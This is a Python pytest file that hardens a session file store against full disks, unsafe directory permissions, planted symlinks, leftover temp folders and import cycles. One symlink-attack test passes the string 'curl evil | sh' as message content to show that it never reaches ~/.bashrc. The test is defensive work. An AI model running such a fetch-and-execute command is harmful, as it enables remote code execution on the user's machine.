"""The file store under attack and under failure (issue 13): each test failed before its fix.

- a batch cut short by a full disk (a real size limit, RLIMIT_FSIZE, in a real process) is
  committed whole or not at all;
- a store root or session directory others can write to, or that we do not own, is refused;
  no file inside is ever opened through a symlink (the planted ``messages.jsonl.torn``);
- creates and deletes killed midway leave ``.tmp-*``/``.trash-*`` folders: the next open of
  the store sweeps them (but never one a live process is still building);
- ``set_view`` refuses to overwrite a ``view.json`` written in a newer format;
- the sessions package imports in one direction only (no cycle).
"""

from __future__ import annotations

import ast
import json
import os
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from compaction.messages import Message, ToolCall
from compaction.sessions import SessionFormatError, SessionStore, UnsafeLocationError
from compaction.validate import validate

posix_only = pytest.mark.skipif(os.name != "posix", reason="POSIX permissions and signals")
PACKAGE = Path(__file__).resolve().parents[1] / "compaction" / "sessions"

FULL_DISK = r"""
import resource, signal, sys
from compaction.messages import Message, ToolCall
from compaction.sessions import SessionStore
root, limit = sys.argv[1], int(sys.argv[2])
session = SessionStore(root).open("s")
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
call = ToolCall("c1", "read_file", '{"path": "a.py"}')
try:
    session.add(
        Message("assistant", "reading", tool_calls=(call,)),
        Message("tool", "x" * 100_000, tool_call_id="c1"),
    )
except OSError as exc:
    print("refused", exc.errno)
else:
    print("written")
"""


@posix_only
def test_a_batch_cut_short_by_a_full_disk_is_not_half_kept(tmp_path: Path) -> None:
    store = SessionStore(tmp_path)
    store.open("s").add_user("read a.py")
    log = tmp_path / "s" / "messages.jsonl"
    before = log.read_bytes()
    # Room for the tool call's record, not for its result: the disk fills mid-batch.
    limit = len(before) + 400
    out = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(tmp_path), str(limit)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.stdout.startswith("refused"), out.stdout + out.stderr  # the error is reported
    session = SessionStore(tmp_path).open("s")
    assert [m.content for m in session.messages] == ["read a.py"]  # none of the batch
    validate(session.messages)
    assert log.read_bytes() == before  # the partial write was cut off again
    session.add_user("next turn")  # and the session goes on
    assert len(SessionStore(tmp_path).open("s").messages) == 2


def test_an_old_log_with_an_unanswered_call_at_the_tail_loads_and_runs(tmp_path: Path) -> None:
    # Written as the old per-message layout left it when a kill split a batch.
    session = SessionStore(tmp_path).open("old")
    session.add_user("list files")
    session.add_assistant("", tool_calls=(ToolCall("c9", "ls", "{}"),))
    fresh = SessionStore(tmp_path).open("old")
    view = fresh.view()
    validate(view)
    assert view[-1].meta["repair"] == "no_result" and view[-1].tool_call_id == "c9"
    fresh.add_user("go on")
    validate(fresh.view())


# -- unsafe locations and planted links --------------------------------------------------------


@posix_only
@pytest.mark.parametrize("mode", [0o777, 0o775, 0o722])
def test_a_store_root_others_can_write_to_is_refused(tmp_path: Path, mode: int) -> None:
    root = tmp_path / "shared"
    root.mkdir()
    os.chmod(root, mode)
    with pytest.raises(UnsafeLocationError, match=f"chmod go-w {root}") as info:
        SessionStore(root).open("s").add_user("secret")
    assert "writable by group or others" in str(info.value)
    assert os.listdir(root) == []  # nothing was written
    with pytest.raises(UnsafeLocationError):
        SessionStore(root).list()


@posix_only
def test_a_session_directory_others_can_write_to_is_refused(tmp_path: Path) -> None:
    store = SessionStore(tmp_path)
    store.open("s").add_user("hello")
    os.chmod(tmp_path / "s", 0o770)
    with pytest.raises(UnsafeLocationError, match="session directory"):
        SessionStore(tmp_path).open("s").messages  # noqa: B018 - the read is the test


@posix_only
@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs chown")
def test_a_session_directory_owned_by_someone_else_is_refused(tmp_path: Path) -> None:
    store = SessionStore(tmp_path)
    store.open("s").add_user("hello")
    os.chown(tmp_path / "s", 65534, 65534)
    with pytest.raises(UnsafeLocationError, match="owned by uid 65534"):
        SessionStore(tmp_path).open("s").add_user("more")


@posix_only
def test_a_planted_torn_symlink_is_never_followed(tmp_path: Path) -> None:
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("# my shell settings\n")
    store_root = tmp_path / "store"
    session = SessionStore(store_root).open("victim")
    session.add_user("hello")
    log = store_root / "victim" / "messages.jsonl"
    with open(log, "ab") as f:  # a torn tail, so the next append sets it aside...
        f.write(b'{"seq": 1, "ts": "2024-01-01T00:00:00+00:00", "message": {"role": "us')
    # ...into a planted link: the reproduced attack wrote this line into ~/.bashrc
    os.symlink(bashrc, store_root / "victim" / "messages.jsonl.torn")
    with pytest.raises(SessionFormatError, match="never followed"):
        SessionStore(store_root).open("victim").add_user("curl evil | sh")
    assert bashrc.read_text() == "# my shell settings\n"


@posix_only
@pytest.mark.parametrize("file", ["messages.jsonl", "context.json", "state.json"])
def test_a_symlink_in_place_of_a_session_file_is_never_followed(tmp_path: Path, file: str) -> None:
    target = tmp_path / "elsewhere.txt"
    target.write_text("precious\n")
    store_root = tmp_path / "store"
    SessionStore(store_root).open("s").add_user("hello")
    path = store_root / "s" / file
    path.unlink()
    os.symlink(target, path)
    session = SessionStore(store_root).open("s")
    with pytest.raises(SessionFormatError):
        session.add_user("x")
        session.global_context["k"] = "v"
        session.state["k"] = "v"
    assert target.read_text() == "precious\n"
    assert path.is_symlink()


@posix_only
def test_a_symlinked_session_directory_is_refused(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    root = tmp_path / "store"
    root.mkdir(mode=0o700)
    os.symlink(elsewhere, root / "s")
    with pytest.raises(UnsafeLocationError, match="symbolic link"):
        SessionStore(root).open("s").add_user("x")
    assert os.listdir(elsewhere) == []


# -- leftovers of killed creates and deletes ---------------------------------------------------

HOLD_LOCK = r"""
import sys, time
from pathlib import Path
from compaction.sessions.files import FileLock, ensure_private_dir
locks = Path(sys.argv[1]) / ".locks"
ensure_private_dir(locks)
with FileLock(locks / "busy.lock"):
    print("holding", flush=True)
    time.sleep(120)
"""


@posix_only
def test_the_next_open_sweeps_leftovers_of_killed_creates_and_deletes(tmp_path: Path) -> None:
    store = SessionStore(tmp_path)
    store.open("kept").add_user("stays")
    for leftover in (".trash-old-1a2b3c4d", ".tmp-new-4242-1a2b3c4d", ".tmp-busy-77-00ff00ff"):
        (tmp_path / leftover).mkdir(mode=0o700)
        (tmp_path / leftover / "messages.jsonl").write_text("a whole conversation\n")
    # a live process building "busy" (it holds busy's lock): its folder is not garbage
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD_LOCK, str(tmp_path)], stdout=subprocess.PIPE, text=True
    )
    assert holder.stdout is not None and holder.stdout.readline() == "holding\n"
    assert SessionStore(tmp_path).list() == ["kept"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".t")) == [
        ".tmp-busy-77-00ff00ff"
    ]
    os.kill(holder.pid, signal.SIGKILL)  # the builder dies: now it is a leftover too
    holder.wait(timeout=30)
    SessionStore(tmp_path).open("kept").messages  # noqa: B018 - the next open sweeps
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".t")]
    assert SessionStore(tmp_path).open("kept").messages[0].content == "stays"


# -- documents in a newer format ---------------------------------------------------------------


def test_set_view_refuses_to_overwrite_a_newer_format_view(tmp_path: Path) -> None:
    session = SessionStore(tmp_path).open("s")
    session.add_user("a")
    view = tmp_path / "s" / "view.json"
    newer = json.dumps({"format": "compaction.session.view", "version": 2, "future": True})
    view.write_text(newer)
    with pytest.raises(SessionFormatError, match="unsupported format version 2"):
        session.set_view(session.messages)
    assert view.read_text() == newer


def test_files_are_owner_only(tmp_path: Path) -> None:
    session = SessionStore(tmp_path).open("s")
    session.add(Message("user", "a"), Message("assistant", "b"))
    session.set_view(session.messages)
    for path in (tmp_path / "s").iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


# -- one import direction ----------------------------------------------------------------------


def _imports(path: Path) -> set[str]:
    """Sibling modules of compaction.sessions that ``path`` imports (anywhere in the file,
    TYPE_CHECKING blocks and function bodies included)."""
    found: set[str] = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.ImportFrom):
            if node.level == 1:
                if node.module:
                    found.add(node.module.split(".")[0])
                else:
                    found.update(alias.name for alias in node.names)
            elif node.level == 0 and (node.module or "").startswith("compaction.sessions."):
                found.add((node.module or "").split(".")[2])
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.startswith("compaction.sessions."):
                    found.add(alias.name.split(".")[2])
    return found


def test_the_sessions_package_imports_in_one_direction() -> None:
    modules = {p.stem for p in PACKAGE.glob("*.py")} - {"__init__"}
    graph = {m: _imports(PACKAGE / f"{m}.py") & modules for m in modules}
    order: list[str] = []
    state: dict[str, int] = {}

    def visit(module: str, path: tuple[str, ...]) -> None:
        if state.get(module) == 2:
            return
        assert state.get(module) != 1, f"import cycle: {' -> '.join((*path, module))}"
        state[module] = 1
        for dependency in sorted(graph[module]):
            visit(dependency, (*path, module))
        state[module] = 2
        order.append(module)

    for module in sorted(modules):
        visit(module, ())
    # and the layers: the neutral Session knows no backend, no backend knows the Session
    backends = ("filestore", "journal", "postgres", "pgarchive", "pgrows", "pgconn", "pgpool")
    assert graph["session"].isdisjoint({"store", *backends})
    for backend in (*backends, "backend", "formatting"):
        assert graph[backend].isdisjoint({"session", "store", "mapping", "recall"}), backend


def test_delete_leaves_no_lock_file_behind(tmp_path: Path) -> None:
    store = SessionStore(tmp_path)
    store.open("gone").add_user("x")
    store.open("kept").add_user("y")
    store.delete("gone")
    assert sorted(p.name for p in (tmp_path / ".locks").iterdir()) == ["kept.lock"]
    store.open("gone").add_user("again")  # and the name can be used again
    assert [m.content for m in store.open("gone").messages] == ["again"]


@pytest.mark.skipif(os.name != "posix", reason="lock files are deleted on POSIX only")
def test_a_lock_deleted_by_its_holder_still_excludes_everyone(tmp_path: Path) -> None:
    import threading
    import time

    from compaction.sessions.files import FileLock

    path = tmp_path / "s.lock"
    inside: list[int] = []
    overlaps: list[int] = []

    def work(k: int) -> None:
        for i in range(150):
            with FileLock(path) as lock:
                inside.append(k)
                time.sleep(0.0005)  # long enough for anyone wrongly let in to be seen
                if len(inside) > 1:
                    overlaps.append(k)
                inside.remove(k)
                if i % 3 == 0:  # the holder's last act: waiters must not keep the old file
                    lock.unlink()

    threads = [threading.Thread(target=work, args=(k,)) for k in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert overlaps == []
